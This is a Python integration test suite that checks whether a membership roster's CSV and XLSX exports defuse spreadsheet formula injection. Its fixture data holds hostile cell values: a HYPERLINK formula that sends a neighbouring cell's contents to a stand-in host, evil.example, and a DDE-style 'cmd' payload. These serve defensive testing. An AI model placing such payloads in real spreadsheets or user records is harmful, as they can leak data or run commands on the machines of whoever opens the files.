"""Exports a spreadsheet cannot run (issue 14, OWASP "CSV injection"), against the real roster,
activities and scoring services on PostgreSQL and Redis, served over HTTP for partyctl.

A member named `=HYPERLINK("http://…"&A3,"…")`, a class, company and dormitory that begin with
`+`, `-`, `@`, a tab or a carriage return, and a meeting titled like a formula: every CSV and XLSX
file the system writes (the roster's archives as CSV and XLSX,
partyctl's `export archives`, `ledger --csv`, `ledger --xlsx` and `table --csv`) is read back,
with csv and openpyxl, and holds no formula and no text cell that begins with a character that
makes one; the text is all there, behind an apostrophe, and numbers are still numbers."""

from __future__ import annotations

import contextlib
import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
import pytest_asyncio
import redis.asyncio as redis
from openpyxl import load_workbook
from rich.console import Console

from runtime.spreadsheets import DANGEROUS_FIRST, is_dangerous
from services import auditor
from services.activities.service import DEFINITION as ACTIVITIES
from services.roster.service import DEFINITION as ROSTER
from services.scoring.service import DEFINITION as SCORING
from tests.conftest import REDIS_URL
from tests.integration.test_partyctl import World, _cli, served
from tests.support.roster import RosterClient
from tests.support.stack import services

pytestmark = pytest.mark.timeout(300)
on_the_world = pytest.mark.asyncio(loop_scope="module")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看")'
HOSTILE = {
    "name": HYPERLINK,
    "class_name": "+1+cmd|' /C calc'!A0",
    "company": "-2+3",
    "dormitory": "@SUM(1+1)",
}
OTHERS = {"m-tab": "\t=1+1", "m-cr": "\r=1+1", "m-space": "  =1+1"}


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def world(
    database_url: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[World]:
    prefix = f"t{uuid4().hex[:10]}"
    try:
        async with (
            services([ROSTER, ACTIVITIES, SCORING], database_url, prefix, REDIS_URL) as apis,
            contextlib.AsyncExitStack() as stack,
        ):
            urls = {
                name: await stack.enter_async_context(served(api.app)) for name, api in apis.items()
            }
            made = World(apis, urls, tmp_path_factory.mktemp("exports"))
            await enter(made)
            yield made
    finally:
        client = redis.Redis.from_url(REDIS_URL)
        keys = [key async for key in client.scan_iter(match=f"{prefix}:*", count=1000)]
        if keys:
            await client.delete(*keys)
        await client.aclose()


async def enter(w: World) -> None:
    r = RosterClient(w.apis["roster"])
    await r.organisation()
    await r.enrol("m-evil", **HOSTILE)
    await r.enrol("m-plain", name="王小明")
    for member_id, name in OTHERS.items():
        await r.enrol(member_id, name=name)
    await w.applied_by_scoring()
    recorder = w.header("university_admin", subject="office")
    await w.post(
        "activities",
        "/v1/activities",
        {
            "activity_id": "M1",
            "kind": "all_member_meeting",
            "title": "=全体党员大会",
            "branch_id": "nde-b1",
            "starts_at": "2010-05-12T19:00:00+08:00",
            "place": "@礼堂",
        },
        recorder,
    )
    await w.post(
        "activities",
        "/v1/activities/M1/attendance",
        {
            "lines": [
                {"member_id": "m-evil", "status": "present"},
                {"member_id": "m-plain", "status": "absent"},
            ]
        },
        recorder,
    )
    await w.applied_by_scoring()


@pytest.fixture(autouse=True)
def wide_console(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditor, "console", Console(width=400, force_terminal=False))
    monkeypatch.delenv("PARTY_TIMEZONE", raising=False)


async def run(world: World, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    capsys.readouterr()
    code = await _cli(world, world.auditor, *argv)
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_safe_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not is_dangerous(cell), f"a formula in a CSV cell: {cell!r} in {row}"
            assert not cell.lstrip(" ").startswith(DANGEROUS_FIRST) or _number(cell), cell


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe_xlsx(path: Path) -> list[list[Any]]:
    """Every cell of every sheet: no formula, no text a spreadsheet would take for one."""
    values = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(DANGEROUS_FIRST), (
                        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    )
            values.append([cell.value for cell in row])
    return values


@on_the_world
async def test_the_roster_archives_as_csv_and_xlsx_hold_no_formula(
    world: World, tmp_path: Path
) -> None:
    roster = world.apis["roster"]
    headers = world.header("university_admin", subject="office")
    got = await roster.client.get("/v1/archives", params={"format": "csv"}, headers=headers)
    assert got.status_code == 200, got.text
    rows = csv_cells(got.content.decode("utf-8"))
    assert_safe_csv(rows)
    [evil] = [row for row in rows if row[0] == "m-evil"]
    assert evil[2] == "'" + HYPERLINK  # the name is all there, as text
    assert evil[5:8] == ["'" + HOSTILE["class_name"], "'-2+3", "'@SUM(1+1)"]
    names = {row[0]: row[2] for row in rows}
    assert names["m-tab"] == "'\t=1+1"
    assert names["m-space"] == "'  =1+1"
    assert names["m-plain"] == "王小明"

    got = await roster.client.get("/v1/archives", params={"format": "xlsx"}, headers=headers)
    assert got.status_code == 200, got.text
    path = tmp_path / "archives.xlsx"
    path.write_bytes(got.content)
    [evil_row] = [row for row in assert_safe_xlsx(path) if row and row[0] == "m-evil"]
    assert evil_row[2] == "'" + HYPERLINK
    counts = load_workbook(path)["统计 Counts"]
    totals = [row for row in counts.iter_rows(values_only=True) if row[0] == "合计 Total"]
    assert totals[0][4] == 5  # a number, not text


@on_the_world
async def test_partyctl_exports_hold_no_formula(
    world: World, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    archives = tmp_path / "archives.xlsx"
    await run(world, capsys, "export", "archives", "--unit", "nde", "--out", str(archives))
    names = [row[2] for row in assert_safe_xlsx(archives) if row and row[0] == "m-evil"]
    assert names == ["'" + HYPERLINK]

    table = csv_cells(await run(world, capsys, "table", "nde-b1", "--period", "2010", "--csv"))
    assert_safe_csv(table)
    [evil] = [row for row in table if row[1] == "m-evil"]
    assert evil[2] == "'" + HYPERLINK
    assert evil[3] == "61.0"

    ledger = csv_cells(await run(world, capsys, "ledger", "m-plain", "--period", "2010", "--csv"))
    assert_safe_csv(ledger)
    [absent] = [row for row in ledger if row[1] == "rule"]
    header = ledger[0]
    assert absent[header.index("points")] == "-2.0"  # a deduction stays a number

    workbook = tmp_path / "ledger.xlsx"
    await run(world, capsys, "ledger", "m-plain", "--period", "2010", "--xlsx", str(workbook))
    rows = assert_safe_xlsx(workbook)
    header_row = rows[0]
    [line] = [row for row in rows[1:] if row[1] == "rule"]
    assert line[header_row.index("points")] == -2.0  # numbers stay numbers


def test_numbers_stay_numbers_and_texts_are_neutralised() -> None:
    from runtime.spreadsheets import safe_text

    assert safe_text("-5.0") == "-5.0"
    assert safe_text("+3") == "+3"
    assert safe_text("-5.0+A1") == "'-5.0+A1"
    assert safe_text("=1") == "'=1"
    assert safe_text("\r\n=1") == "'\r\n=1"
    assert safe_text("正常") == "正常"
